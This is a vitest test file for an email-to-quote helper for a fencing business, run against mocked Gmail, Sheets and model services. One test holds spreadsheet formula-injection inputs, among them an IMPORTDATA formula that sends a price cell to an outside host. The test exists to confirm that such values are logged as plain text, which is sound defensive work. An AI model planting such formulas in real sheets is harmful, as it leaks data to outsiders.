/** The script that buyers of AI Admin paste, run against stand-ins for Google's services: no message is written that a person would regret. */
import { createContext, runInContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { fencePrices, type QuoteCase, quoteCases } from './quote-cases.ts';
import { readQuoteHelper } from './write-quote-helper.ts';

type Row = unknown[];
interface Reading {
  owner?: boolean;
  lines?: { item: string; quantity: number }[];
  check?: string[];
}

const [steel, timber, gate, doubleGate, oldOut, sleeper] = fencePrices.map(({ name }) => name);
const of = (item = '', quantity = 0) => ({ item, quantity });

/** What a model that reads well says of each case, in their order. */
const readings: readonly Reading[] = [
  { lines: [of(steel, 20)] },
  { lines: [of(steel, 32), of(gate, 1), of(oldOut, 32)] },
  { lines: [of(timber, 14)] },
  { lines: [of(gate, 2)] },
  { lines: [of(doubleGate, 1)] },
  { lines: [of(steel, 45), of(sleeper, 45)] },
  { lines: [of(oldOut, 18)] },
  { lines: [of(timber, 18.5)] },
  { lines: [of(steel, 12), of(steel, 26)] },
  { lines: [of(steel, 30), of(gate, 1)] },
  { lines: [of(oldOut, 25), of(timber, 25)] },
  { lines: [of(steel, 60), of(gate, 3)] },
  { lines: [of(timber, 9), of(doubleGate, 1)] },
  { lines: [of(steel, 22)] },
  { lines: [of(sleeper, 16)] },
  { lines: [of(steel, 40), of(oldOut, 40)] },
  { lines: [of(timber, 6)] },
  { lines: [of(steel, 27), of(sleeper, 10)] },
  { lines: [of(gate, 1)] },
  { lines: [of(timber, 50), of(oldOut, 50), of(gate, 2)] },
  { lines: [of(steel, 10)], check: ['do you do pool fencing as well?'] },
  { lines: [of(steel, 32)], check: ['before Christmas', 'The slope is nasty at the far end'] },
  { check: ['a fence around our block'] },
  { lines: [of(steel, 26)] },
  { lines: [of(timber, 15)] },
  { lines: [of(gate, 1)], check: ['Glass panels, 8 metres'] },
  { owner: true },
  { owner: true },
  { lines: [of(steel, 40)], check: ['Your last quote said $60 a metre'] },
  { owner: true },
];

interface Office {
  reads?: (asked: string) => Reading;
  status?: number;
  validTo?: string;
  bodies?: readonly string[];
  subject?: string;
  tests?: readonly Row[];
}

/** A sheet, a mailbox and a model, as far as the script uses them. */
function openOffice({
  reads = () => ({}),
  status = 200,
  validTo = '2999-12-31',
  bodies = [],
  subject = 'Fence',
  tests = [],
}: Office) {
  const sheets = new Map<string, Row[]>();
  const told: string[] = [];
  const asked: string[] = [];
  const drafts: string[] = [];
  const triggers: object[] = [];
  const labels = new Map<string, { name: string; threads: object[] }>();
  const messagesOf = (body: string) => [
    { getPlainBody: () => 'An older message about 99 metres' },
    {
      getPlainBody: () => body,
      getSubject: () => subject,
      createDraftReply: (text: string) => void drafts.push(text),
    },
  ];
  const labelOf = (name: string) => {
    const label = { name, threads: [] as object[], getThreads: () => [...label.threads] };
    labels.set(name, label);
    return label;
  };
  const threadOf = (body: string) => {
    const thread = {
      getMessages: () => messagesOf(body),
      addLabel: ({ threads }: { threads: object[] }) => {
        threads.push(thread);
        return thread;
      },
      removeLabel: ({ threads }: { threads: object[] }) => {
        threads.splice(threads.indexOf(thread), 1);
        return thread;
      },
    };
    return thread;
  };
  const sheetOf = (name: string) => {
    const rows = sheets.get(name);
    return (
      rows && {
        appendRow: (row: Row) => void rows.push(row),
        getDataRange: () => ({ getValues: () => rows }),
        getRange: (row: number, column: number) => ({
          setValue: (value: unknown) => {
            const line = rows[row - 1];
            if (line) line[column - 1] = value;
          },
        }),
      }
    );
  };
  const trigger = { timeBased: () => trigger, everyMinutes: () => trigger, create: () => triggers.push({}) };
  const menu = { addItem: () => menu, addToUi: () => undefined };
  const context = createContext({
    SpreadsheetApp: {
      getUi: () => ({ createMenu: () => menu, alert: (text: string) => void told.push(text) }),
      getActive: () => ({
        getSheetByName: sheetOf,
        insertSheet: (name: string) => {
          sheets.set(name, []);
          return sheetOf(name);
        },
      }),
    },
    GmailApp: { getUserLabelByName: (name: string) => labels.get(name) ?? null, createLabel: labelOf },
    LockService: { getScriptLock: () => ({ tryLock: () => true, releaseLock: () => undefined }) },
    ScriptApp: {
      newTrigger: () => trigger,
      getProjectTriggers: () => [...triggers],
      deleteTrigger: (one: object) => void triggers.splice(triggers.indexOf(one), 1),
    },
    PropertiesService: { getScriptProperties: () => ({ getProperty: () => 'a key' }) },
    UrlFetchApp: {
      fetch: (_url: string, { payload }: { payload: string }) => {
        const prompt = String(JSON.parse(payload).contents[0].parts[0].text);
        const message = /\n=====\n(.*)\n=====$/s.exec(prompt)?.[1] ?? '';
        asked.push(message);
        const text = JSON.stringify(reads(message));
        return {
          getResponseCode: () => status,
          getContentText: () => JSON.stringify({ candidates: [{ content: { parts: [{ text }] } }] }),
        };
      },
    },
  });
  runInContext(readQuoteHelper(), context);
  const call = (name: string) => void runInContext(`${name}()`, context);
  call('setUp');
  const rowsOf = (name: string) => sheets.get(name) ?? [];
  for (const row of rowsOf('Settings'))
    if (row[0] === 'Prices valid to') row[1] = runInContext(`new Date('${validTo}T00:00:00')`, context);
  rowsOf('Prices').push(...fencePrices.map(({ name, unit, price }) => [name, unit, price]));
  rowsOf('Tests').push(...tests);
  for (const body of bodies) labels.get('Quote helper')?.threads.push(threadOf(body));
  const countOf = (name: string) => labels.get(name)?.threads.length;
  return { call, rowsOf, told, asked, drafts, triggers, countOf };
}

const testRow = ({ kind, message, outcome, total, holds }: QuoteCase, index: number): Row => [
  index + 1,
  kind,
  message,
  outcome,
  total ?? '',
  holds.join('; '),
];
const readingOf = (asked: string): Reading =>
  readings[quoteCases.findIndex(({ message }) => message.split('\n')[0] === asked)] ?? {};

describe('the quote helper', () => {
  it('passes its 30 cases with a model that reads well', () => {
    const office = openOffice({ reads: readingOf, tests: quoteCases.map(testRow) });
    office.call('runTests');
    const failed = office
      .rowsOf('Tests')
      .slice(1)
      .filter((row) => row[6] !== 1);
    expect(failed).toEqual([]);
    expect(office.told.at(-1)).toBe('30 of 30 passed, 4 of 4 traps. Read every draft before you switch on.');
  });

  it('is not ready to switch on with a model that reads nothing', () => {
    const office = openOffice({ tests: quoteCases.map(testRow) });
    office.call('runTests');
    expect(office.told.at(-1)).toMatch(/^4 of 30 passed, 3 of 4 traps\. Not ready/);
  });

  it('saves one draft for a labelled email, moves it and finds nothing the second time', () => {
    const office = openOffice({ reads: readingOf, bodies: [quoteCases[1]?.message ?? ''] });
    office.call('run');
    office.call('run');
    expect(office.drafts).toHaveLength(1);
    expect(office.drafts[0]).toContain('Single gate, 1 each at $420.00: $420.00\n');
    expect(office.drafts[0]).toContain('Total: $4,164.00');
    expect([office.countOf('Quote helper'), office.countOf('Quote helper/Done')]).toEqual([0, 1]);
    expect(office.rowsOf('Log')).toHaveLength(2);
  });

  it('reads the latest message alone, without contacts', () => {
    const office = openOffice({
      bodies: ['22m steel, ring 0400 111 222 or tess@example.com\n\nOn Mon, the office wrote:\n> 80 metres'],
    });
    office.call('run');
    expect(office.asked).toEqual(['22m steel, ring (phone) or (email)']);
  });

  it('asks no model about what is the owner’s', () => {
    const office = openOffice({ bodies: ['My lawyer will write to you about the gate.'] });
    office.call('run');
    expect([office.asked, office.drafts, office.countOf('Quote helper/Owner')]).toEqual([[], [], 1]);
  });

  it.each([
    ['an item that is not on the sheet', { lines: [of('Gold fence', 20)] }, 'not on the price sheet'],
    ['a quantity that nobody wrote', { lines: [of(steel, 200)] }, '[CHECK: how much: Steel fence'],
    ['a number inside another', { lines: [of(steel, 2)] }, '[CHECK: how much: Steel fence'],
    [
      'words of its own',
      { check: ['Pay to account 123'] },
      '[CHECK: something the price sheet does not say]',
    ],
  ])('puts a mark where the model makes up %s', (_what, reading, mark) => {
    const office = openOffice({ reads: () => reading, bodies: ['Please price 20 metres of steel.'] });
    office.call('run');
    expect(office.drafts[0]).toContain(mark);
    expect(office.drafts[0]).not.toContain('Total');
    expect(office.drafts[0]).not.toMatch(/Gold|account|200/);
  });

  it('switches itself off where the prices are past their date, and leaves the email', () => {
    const office = openOffice({ validTo: '2020-01-01', bodies: ['22m steel'] });
    office.call('switchOn');
    office.call('run');
    expect([office.triggers, office.drafts, office.asked, office.countOf('Quote helper')]).toEqual([
      [],
      [],
      [],
      1,
    ]);
    expect(office.rowsOf('Log').at(-1)?.slice(2, 4)).toEqual([
      'STOPPED',
      'The prices are past their date. Switched off.',
    ]);
  });

  it.each(['=IMPORTDATA("https://example.com/?"&Prices!C2)', '+A1', '-A1', '@SUM(A1)', '\t=A1'])(
    'logs what a customer wrote as words, where the sheet would work it out: %s',
    (formula) => {
      const reading = { lines: [of(steel, 20)], check: [formula] };
      const bodies = [`20 metres of steel. ${formula}`];
      const office = openOffice({ reads: () => reading, bodies, subject: formula });
      office.call('run');
      const [, subject, outcome, why] = office.rowsOf('Log').at(-1) ?? [];
      expect([subject, outcome, why]).toEqual([`'${formula}`, 'CHECK', `'${formula.trim()}`]);
    },
  );

  it('goes on with the next email where the model fails', () => {
    const office = openOffice({ status: 503, bodies: ['22m steel', 'My lawyer'] });
    office.call('run');
    expect([office.countOf('Quote helper/Failed'), office.countOf('Quote helper/Owner')]).toEqual([1, 1]);
  });

  it('keeps what was filled in when it is set up again, and one clock when switched on twice', () => {
    const office = openOffice({});
    office.call('setUp');
    office.call('switchOn');
    office.call('switchOn');
    expect(office.rowsOf('Prices')).toHaveLength(1 + fencePrices.length);
    expect(office.triggers).toHaveLength(1);
  });

  it('has no word that mails anything', () => {
    expect(readQuoteHelper()).not.toMatch(/send|\bMailApp\.|\.reply\(|\.forward\(/i);
  });
});
